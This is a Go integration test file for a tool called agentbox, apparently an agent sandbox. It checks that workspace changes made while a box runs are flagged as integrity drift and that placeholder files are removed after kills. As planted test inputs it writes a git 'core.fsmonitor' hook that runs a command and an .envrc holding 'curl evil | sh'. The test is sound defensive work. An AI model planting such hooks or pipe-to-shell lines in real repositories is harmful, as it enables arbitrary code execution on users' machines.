@@ -1,0 +1,294 @@
+package integrity_test
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/agentbox/agentbox/internal/api"
+)
+
+var (
+	binOnce sync.Once
+	binPath string
+	binErr  error
+)
+
+// agentboxBin returns the binary under test: $AGENTBOX_BIN, or one built once for the run.
+func agentboxBin(t *testing.T) string {
+	t.Helper()
+	if b := os.Getenv("AGENTBOX_BIN"); b != "" {
+		return b
+	}
+	binOnce.Do(func() {
+		dir, err := os.MkdirTemp("", "agentbox-integrity-bin")
+		if err != nil {
+			binErr = err
+			return
+		}
+		os.Chmod(dir, 0o755)
+		binPath = filepath.Join(dir, "agentbox")
+		out, err := exec.Command("go", "build", "-o", binPath, "github.com/agentbox/agentbox/cmd/agentbox").CombinedOutput()
+		if err != nil {
+			binErr = fmt.Errorf("build agentbox: %v\n%s", err, out)
+		}
+	})
+	if binErr != nil {
+		t.Skipf("no agentbox binary (set AGENTBOX_BIN): %v", binErr)
+	}
+	return binPath
+}
+
+// daemonEnv is an isolated agentbox user environment with its own daemon.
+type daemonEnv struct {
+	t                                *testing.T
+	bin                              string
+	root, runtime, state, home, work string
+	vars                             []string
+}
+
+func newDaemonEnv(t *testing.T) *daemonEnv {
+	t.Helper()
+	needGit(t)
+	e := &daemonEnv{t: t, bin: agentboxBin(t)}
+	var err error
+	if e.root, err = os.MkdirTemp("/tmp", "abi"); err != nil {
+		t.Fatal(err)
+	}
+	cfg := filepath.Join(e.root, "c")
+	for _, d := range []*string{&e.runtime, &e.state, &e.home, &e.work, &cfg} {
+		if *d == "" {
+			*d, err = os.MkdirTemp(e.root, "d")
+		} else {
+			err = os.Mkdir(*d, 0o700)
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		os.Chmod(*d, 0o700)
+	}
+	// Periodic checks every second, so that the test does not rest on inotify alone.
+	write(t, filepath.Join(cfg, "agentbox", "config.yaml"), "integrity:\n  interval: 1s\n")
+	e.vars = []string{"PATH=" + os.Getenv("PATH"), "LANG=C.UTF-8", "HOME=" + e.home,
+		"XDG_RUNTIME_DIR=" + e.runtime, "XDG_STATE_HOME=" + e.state, "XDG_CONFIG_HOME=" + cfg}
+	t.Cleanup(e.close)
+	return e
+}
+
+func (e *daemonEnv) cmd(args ...string) *exec.Cmd {
+	c := exec.Command(e.bin, args...)
+	c.Env, c.Dir = e.vars, e.work
+	return c
+}
+
+func (e *daemonEnv) run(args ...string) string {
+	e.t.Helper()
+	var out, errb bytes.Buffer
+	c := e.cmd(args...)
+	c.Stdout, c.Stderr = &out, &errb
+	if err := c.Run(); err != nil {
+		e.t.Fatalf("agentbox %v: %v\n%s%s", args, err, out.String(), errb.String())
+	}
+	return out.String()
+}
+
+func (e *daemonEnv) launches() []api.Launch {
+	e.t.Helper()
+	var ls []api.Launch
+	if err := json.Unmarshal([]byte(e.run("launches", "--json")), &ls); err != nil {
+		e.t.Fatal(err)
+	}
+	return ls
+}
+
+// waitLaunch polls until cond holds for launch id (a hang guard, not a timing assertion).
+func (e *daemonEnv) waitLaunch(id string, what string, cond func(api.Launch) bool) api.Launch {
+	e.t.Helper()
+	deadline := time.Now().Add(60 * time.Second)
+	var last api.Launch
+	for time.Now().Before(deadline) {
+		for _, l := range e.launches() {
+			if l.ID == id {
+				last = l
+				if cond(l) {
+					return l
+				}
+			}
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	e.t.Fatalf("launch %s never %s: %+v\ndaemon log:\n%s", id, what, last, e.daemonLog())
+	return last
+}
+
+func (e *daemonEnv) daemonLog() string {
+	b, _ := os.ReadFile(filepath.Join(e.state, "agentbox", "daemon.log"))
+	return string(b)
+}
+
+func (e *daemonEnv) daemonPid() int {
+	b, err := os.ReadFile(filepath.Join(e.runtime, "agentbox", "daemon.pid"))
+	if err != nil {
+		return 0
+	}
+	var p int
+	fmt.Sscan(string(b), &p)
+	return p
+}
+
+func (e *daemonEnv) close() {
+	for _, l := range e.launches() {
+		if l.State == api.StateRunning || l.State == api.StateStarting {
+			e.cmd("stop", l.ID).Run()
+		}
+	}
+	e.cmd("daemon", "stop").Run()
+	if p := e.daemonPid(); p > 0 {
+		syscall.Kill(p, syscall.SIGKILL)
+	}
+	os.RemoveAll(e.root)
+}
+
+// startBox starts a detached box that runs until the file "stop" appears in the workspace.
+func (e *daemonEnv) startBox() string {
+	e.t.Helper()
+	id := strings.TrimSpace(e.run("run", "-d", "sh", "--", "-c", "while [ ! -e stop ]; do sleep 0.05; done; echo done"))
+	e.waitLaunch(id, "running", func(l api.Launch) bool { return l.State == api.StateRunning })
+	return id
+}
+
+// placeholders are the paths of repo's workspace that exist only while a box runs.
+var placeholders = []string{".mcp.json", ".gitmodules", ".vscode", ".git/commondir", ".git/config.worktree",
+	".git/info/attributes", ".claude/settings.local.json"}
+
+func (e *daemonEnv) checkPlaceholders(present bool) {
+	e.t.Helper()
+	for _, p := range placeholders {
+		_, err := os.Lstat(filepath.Join(e.work, p))
+		if present && err != nil {
+			e.t.Errorf("placeholder %s missing while the box runs: %v", p, err)
+		}
+		if !present && err == nil {
+			e.t.Errorf("placeholder %s left on the host after the box ended", p)
+		}
+	}
+	if !present {
+		if out := git(e.t, e.work, "status", "--porcelain"); out != "" {
+			e.t.Errorf("git status on the host after the box: %q", out)
+		}
+	}
+}
+
+func hasEvent(l api.Launch, kind, pathSuffix string) bool {
+	for _, ev := range l.DriftEvents {
+		if ev.Kind == kind && strings.HasSuffix(ev.Path, pathSuffix) {
+			return true
+		}
+	}
+	return false
+}
+
+// TestDaemonDriftAndCleanup drives the real binary: host-side changes while a box runs are
+// reported as drift (a same-bytes replacement as "replaced", new executable configuration in
+// a nested repository as "created"), the flag shows in `agentbox launches`, and placeholders
+// are gone once the box ends.
+func TestDaemonDriftAndCleanup(t *testing.T) {
+	e := newDaemonEnv(t)
+	repo(t, e.work)
+	id := e.startBox()
+	e.checkPlaceholders(true)
+
+	// Same bytes, new inode: replaced.
+	envrc := filepath.Join(e.work, ".envrc")
+	b, _ := os.ReadFile(envrc)
+	write(t, envrc+".new", string(b))
+	if err := os.Rename(envrc+".new", envrc); err != nil {
+		t.Fatal(err)
+	}
+	// New executable configuration in a nested repository: created.
+	sub := filepath.Join(e.work, "vendor", "sub")
+	os.MkdirAll(sub, 0o755)
+	git(t, sub, "init", "-q")
+	git(t, sub, "config", "core.fsmonitor", "touch /tmp/pwned")
+	// A new .envrc deeper in the tree.
+	write(t, filepath.Join(e.work, "vendor", ".envrc"), "curl evil | sh\n")
+
+	l := e.waitLaunch(id, "reported the drift", func(l api.Launch) bool {
+		return l.Drift && hasEvent(l, "replaced", "/.envrc") && hasEvent(l, "created", "/vendor/sub/.git/config") &&
+			hasEvent(l, "created", "/vendor/.envrc")
+	})
+	// Reversal: the nested config is made harmless again; the flag stays.
+	git(t, sub, "config", "--unset", "core.fsmonitor")
+	write(t, filepath.Join(e.work, "stop"), "")
+	l = e.waitLaunch(id, "ended", func(l api.Launch) bool { return l.State == api.StateExited && l.Settled })
+	if !l.Drift {
+		t.Errorf("drift flag cleared: %+v", l)
+	}
+	if !hasEvent(l, "modified", "/vendor/sub/.git/config") {
+		t.Errorf("the reversal was not recorded as another transition: %+v", l.DriftEvents)
+	}
+	text := e.run("launches")
+	if !strings.Contains(text, "DRIFT") || !strings.Contains(text, "integrity drift in "+id[:12]) || !strings.Contains(text, "core.fsmonitor") {
+		t.Errorf("agentbox launches does not show the drift:\n%s", text)
+	}
+	os.Remove(filepath.Join(e.work, "stop"))
+	os.RemoveAll(filepath.Join(e.work, "vendor"))
+	e.checkPlaceholders(false)
+	if !strings.Contains(e.daemonLog(), "integrity check (periodic)") {
+		t.Errorf("no periodic check log line:\n%s", e.daemonLog())
+	}
+}
+
+// TestNoLeftoversAfterSIGKILL: placeholders are removed after a SIGKILL of the box, and after a
+// SIGKILL of the daemon (by the daemon that re-adopts the box, when it settles it) — both for
+// a box that ends after the new daemon started and for one that ended while no daemon ran.
+func TestNoLeftoversAfterSIGKILL(t *testing.T) {
+	t.Run("Box", func(t *testing.T) {
+		e := newDaemonEnv(t)
+		repo(t, e.work)
+		id := e.startBox()
+		e.checkPlaceholders(true)
+		l := e.waitLaunch(id, "has a box pid", func(l api.Launch) bool { return l.BoxPid > 0 })
+		if err := syscall.Kill(l.BoxPid, syscall.SIGKILL); err != nil {
+			t.Fatal(err)
+		}
+		e.waitLaunch(id, "ended", func(l api.Launch) bool { return l.State != api.StateRunning && l.Settled })
+		e.checkPlaceholders(false)
+	})
+	for _, boxEndsFirst := range []bool{false, true} {
+		t.Run(fmt.Sprintf("Daemon/boxEndsWhileNoDaemon=%v", boxEndsFirst), func(t *testing.T) {
+			e := newDaemonEnv(t)
+			repo(t, e.work)
+			id := e.startBox()
+			e.checkPlaceholders(true)
+			pid := e.daemonPid()
+			if pid <= 0 {
+				t.Fatal("no daemon pid")
+			}
+			syscall.Kill(pid, syscall.SIGKILL)
+			for i := 0; i < 500 && syscall.Kill(pid, 0) == nil; i++ {
+				time.Sleep(10 * time.Millisecond)
+			}
+			e.checkPlaceholders(true) // the box still runs
+			if boxEndsFirst {
+				write(t, filepath.Join(e.work, "stop"), "")
+				time.Sleep(500 * time.Millisecond) // let the box end while no daemon runs
+			}
+			e.run("daemon", "--detach")
+			if !boxEndsFirst {
+				write(t, filepath.Join(e.work, "stop"), "")
+			}
+			e.waitLaunch(id, "settled", func(l api.Launch) bool { return l.State == api.StateExited && l.Settled })
+			os.Remove(filepath.Join(e.work, "stop"))
+			e.checkPlaceholders(false)
+		})
+	}
+}
